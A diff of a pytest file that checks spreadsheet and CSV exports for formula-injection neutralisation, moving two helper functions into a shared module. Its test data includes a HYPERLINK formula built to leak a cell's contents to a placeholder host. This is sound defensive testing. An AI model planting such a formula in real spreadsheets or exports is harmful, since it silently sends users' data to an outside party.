@@ -10,6 +10,7 @@ import pytest
 from openpyxl import load_workbook
 
 from dangke.exports import cell_safe, table_bytes
+from tests.helpers import assert_neutralised, export_cells
 
 HOSTILE = [
     '=HYPERLINK("http://example.invalid/?leak="&A1,"点我")',
@@ -86,31 +87,6 @@ def test_real_numbers_stay_numbers_and_a_dash_text_is_neutralised():
     ]
     text = table_bytes([[-3, "-3"]], "csv").decode("utf-8-sig")
     assert text.strip() == "-3,'-3"
-
-
-def export_cells(response, fmt: str) -> list:
-    """Every cell of an export response, read back with the csv module or openpyxl;
-    an XLSX cell stored as a formula fails the test at once."""
-    content = (
-        b"".join(response.streaming_content) if response.streaming else response.content
-    )
-    if fmt == "csv":
-        text = content.decode("utf-8-sig")
-        return [
-            cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row
-        ]
-    sheet = load_workbook(io.BytesIO(content)).active
-    cells = [cell for row in sheet.iter_rows() for cell in row]
-    assert not [c.value for c in cells if c.data_type == "f"]
-    return [c.value for c in cells if c.value is not None]
-
-
-def assert_neutralised(cells: list, *hostile: str) -> None:
-    texts = [cell for cell in cells if isinstance(cell, str)]
-    live = [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
-    assert not live, live
-    for value in hostile:
-        assert any(t.startswith("'" + value) for t in texts), (value, texts)
 
 
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
